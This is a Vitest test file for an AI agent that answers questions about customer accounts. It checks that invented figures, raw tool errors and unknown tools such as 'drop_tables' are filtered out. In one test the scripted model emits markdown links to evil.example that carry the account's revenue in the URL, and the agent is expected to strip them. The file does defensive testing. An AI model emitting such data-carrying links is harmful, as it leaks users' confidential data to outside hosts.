import { afterAll, beforeAll, expect, test } from "vitest";
import { sql } from "#database/sql.ts";
import { scripted, smallAgent } from "../fixtures/ask.ts";
import { type ModelServer, modelServer } from "../fixtures/model-server.ts";
import { soon } from "../fixtures/soon.ts";

let server: ModelServer;
beforeAll(async () => {
  server = await modelServer();
});
afterAll(() => server.close());

const lookUp = { call: [{ name: "account_overview", input: { account: "Acme GmbH" } }] };

test("a model looks an account up and its answer is shown, with the finding and its source", async () => {
  const { ask } = await smallAgent(scripted(server.url));
  server.script(lookUp, { say: "Acme GmbH pays USD 12,345 a month. It renews on 1 January 2027, in 40 days." });
  const answer = await ask("How is Acme GmbH doing?");
  expect(answer).toMatchObject({
    text: "Acme GmbH pays USD 12,345 a month. It renews on 1 January 2027, in 40 days.",
    offline: false,
    offlineBecause: null,
    dropped: [],
    findings: [{ tool: "account_overview", input: { account: "Acme GmbH" }, isError: false }],
    sources: [{ playbook: "Renewal without contact", section: "Steps" }],
    usage: { modelCalls: 2, tokens: 200 },
    focus: { account: { id: 12, name: "Acme GmbH" } },
  });
  expect(server.asked[1]!.messages.at(-1)!.content).toContain('<finding tool="account_overview">');
});

test("a sentence with a figure that no tool found is not shown", async () => {
  const { ask } = await smallAgent(scripted(server.url));
  server.script(lookUp, { say: "Acme GmbH has 3 open tickets. It renews on 2027-01-01. It has 99 seats." });
  const answer = await ask("How is Acme GmbH doing?");
  expect(answer.text).toBe("Acme GmbH has 3 open tickets. It renews on 2027-01-01.");
  expect(answer.dropped).toEqual([{ sentence: "It has 99 seats.", because: expect.stringContaining("99") }]);
  expect(
    answer.events
      .filter((event) => event.type === "text")
      .map((event) => event.text)
      .join(""),
  ).not.toContain("99");
});

test("an answer that is mostly invented is asked for again, and told what was refused", async () => {
  const { ask } = await smallAgent(scripted(server.url));
  server.script(
    lookUp,
    { say: "It pays 99,999 USD. It has 77 seats. Acme GmbH is in Retention." },
    { say: "Acme GmbH is in Retention since 2026-03-02." },
  );
  const answer = await ask("How is Acme GmbH doing?");
  expect(answer.text).toBe("Acme GmbH is in Retention since 2026-03-02.");
  expect(server.asked[2]!.messages.at(-1)!.content).toContain("It has 77 seats.");
  expect(answer.dropped.map((each) => each.sentence)).toEqual(["It pays 99,999 USD.", "It has 77 seats."]);
});

test("a model that keeps inventing is replaced by the tools' own words", async () => {
  const { ask } = await smallAgent(scripted(server.url));
  server.script(lookUp, { say: "It pays 99,999 USD and has 77 seats." });
  const answer = await ask("How is Acme GmbH doing?");
  expect(answer.offline).toBe(false);
  expect(answer.text).toContain("MRR: USD 12,345.00");
  expect(answer.text).not.toContain("99,999");
});

test("a figure that was never looked up leads to the offline answer", async () => {
  const { ask } = await smallAgent(scripted(server.url));
  server.script({ say: "Acme GmbH pays 99,999 USD." });
  const answer = await ask("How is Acme GmbH doing?");
  expect(answer).toMatchObject({ offline: true, offlineBecause: "provider" });
  expect(answer.text).toContain("MRR: USD 12,345.00");
});

test("an account of the workspace that no tool found is not named", async () => {
  const { ask, context } = await smallAgent(scripted(server.url));
  await context.database.write(context.actor, (rows) =>
    rows.run(
      sql`insert into account (workspace_id, name, name_norm, created_on) values (${context.actor.workspaceId}, 'Umbrella Europe', normal_name('Umbrella Europe'), '2026-01-01')`,
    ),
  );
  server.script(lookUp, { say: "Acme GmbH is in Retention. It is healthier than Umbrella Europe." });
  const answer = await ask("How is Acme GmbH doing?");
  expect(answer.text).toBe("Acme GmbH is in Retention.");
});

test("a tool that asks back is passed on with its choices, and the thread waits for one", async () => {
  const { ask } = await smallAgent(scripted(server.url));
  server.script(
    { call: [{ name: "account_overview", input: { account: "Acme" } }] },
    { say: "Which one do you mean: Acme Corp (US) or Acme GmbH (DE)?" },
  );
  const answer = await ask("How is Acme doing?");
  expect(answer.findings[0]).toMatchObject({
    isError: false,
    output: { kind: "choice", choices: [{ id: 11 }, { id: 12 }] },
  });
  expect(answer.focus.pending).toMatchObject({
    question: "How is Acme doing?",
    choices: [{ label: "Acme Corp" }, { label: "Acme GmbH" }],
  });
});

test("a tool's own failure reaches neither the model nor the asker in its raw words", async () => {
  const { ask } = await smallAgent(scripted(server.url));
  server.script(
    { call: [{ name: "account_overview", input: { account: "Broken" } }] },
    { say: "That cannot be looked up now." },
  );
  const answer = await ask("How is Broken doing?");
  expect(answer.findings[0]).toMatchObject({
    isError: true,
    words: expect.stringMatching(/^That failed on my side \(ref [0-9a-f]{6}\)\.$/),
  });
  expect(JSON.stringify([answer, server.asked])).not.toContain("secret_table");
});

test("wrong arguments and unknown tools come back to the model in a sentence", async () => {
  const { ask } = await smallAgent(scripted(server.url));
  server.script(
    {
      call: [
        { name: "account_overview", input: { account: 7 } },
        { name: "drop_tables", input: {} },
      ],
    },
    lookUp,
    { say: "Acme GmbH has 3 open tickets." },
  );
  const answer = await ask("How is Acme GmbH doing?");
  expect(answer.text).toBe("Acme GmbH has 3 open tickets.");
  const results = server.asked[1]!.messages.filter((message) => message.role === "tool").map(
    (message) => message.content,
  );
  expect(results[0]).toMatch(/account_overview was called with wrong input\. account:/);
  expect(results[1]).toContain("There is no tool drop_tables");
});

test("a model that never stops calling tools has to answer with what it found", async () => {
  const { ask } = await smallAgent(scripted(server.url, { maxCalls: 3 }));
  server.script((asked) => (asked.tool_choice === "none" ? { say: "Acme GmbH has 3 open tickets." } : lookUp));
  const answer = await ask("How is Acme GmbH doing?");
  expect(answer.text).toBe("Acme GmbH has 3 open tickets.");
  expect(answer.usage.modelCalls).toBe(3);
  expect(answer.findings).toHaveLength(1);
});

test("a question that would cost more than its budget gets the offline answer", async () => {
  const { ask } = await smallAgent(scripted(server.url, { maxTokens: 256 }));
  server.script(lookUp);
  const answer = await ask("How is Acme GmbH doing?");
  expect(answer).toMatchObject({ offline: true });
  expect(answer.text).toContain("needed more text than it may read");
});

test("only checked text is streamed, whole sentences at a time, and tools are announced", async () => {
  const { ask } = await smallAgent(scripted(server.url));
  server.script(lookUp, { say: "Acme GmbH has 3 open tickets.\n- MRR is USD 12,345\n- Seats: 4711\n\nDone." });
  const { events, text } = await ask("How is Acme GmbH doing?");
  const spoken = events.filter((event) => event.type === "text").map((event) => event.text);
  expect(spoken.join("").trim()).toBe(text);
  expect(spoken.length).toBeGreaterThan(1);
  expect(events.filter((event) => event.type.startsWith("tool"))).toEqual([
    { type: "tool_started", tool: "account_overview", title: "Account overview" },
    { type: "tool_finished", tool: "account_overview", title: "Account overview", isError: false },
  ]);
});

test("hostile text in a finding is fenced, and a link in it cannot be changed to carry data away", async () => {
  const { ask } = await smallAgent(scripted(server.url));
  server.script(lookUp, {
    say: "Acme GmbH has 3 open tickets. It is in Retention. [Details](https://evil.example/?mrr=12345)\n\n![x](https://evil.example/p.png)",
  });
  const answer = await ask("How is Acme GmbH doing?");
  expect(answer.text).toBe("Acme GmbH has 3 open tickets. It is in Retention.");
});

test("stopping a question stops it", async () => {
  const { ask } = await smallAgent(scripted(server.url));
  server.script({ hang: true });
  const stop = new AbortController();
  const asking = ask("How is Acme GmbH doing?", { signal: stop.signal });
  const stopped = expect(asking).rejects.toThrow("stopped");
  await soon(() => expect(server.asked).toHaveLength(1));
  stop.abort(new Error("stopped"));
  await stopped;
});
